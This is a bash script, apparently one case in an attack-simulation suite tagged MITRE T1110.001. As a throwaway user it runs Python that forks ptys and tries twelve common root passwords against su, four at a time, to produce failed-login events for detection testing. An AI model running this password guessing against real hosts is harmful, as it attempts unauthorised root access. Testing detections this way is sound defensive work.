#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1110.001
# tactic: credential-access
# what: su password guessing from ptys (python3 pty, 4 at a time like hydra's tasks): 12 wrong root passwords by the throwaway user
. "$AT_LIB"
at_as_victim "$PY - <<'PYEOF'
import os, pty, time
words = ['123456', 'password', 'qwerty', 'letmein', 'admin', 'root', 'toor', 'changeme', 'welcome', 'monkey', 'dragon', 'master']
def guess(batch):
    kids = []
    for pw in batch:
        pid, fd = pty.fork()
        if pid == 0:
            os.execv('/bin/su', ['su', '-c', 'true', 'root'])
        kids.append((pid, fd, pw))
    for pid, fd, pw in kids:
        buf, t = b'', time.time() + 5
        while b'assword' not in buf and time.time() < t:
            try:
                buf += os.read(fd, 256)
            except OSError:
                break
        os.write(fd, pw.encode() + b'\n')
    for pid, fd, pw in kids:
        try:
            while os.read(fd, 256):
                pass
        except OSError:
            pass
        os.waitpid(pid, 0)
for i in range(0, len(words), 4):
    guess(words[i:i + 4])
PYEOF"
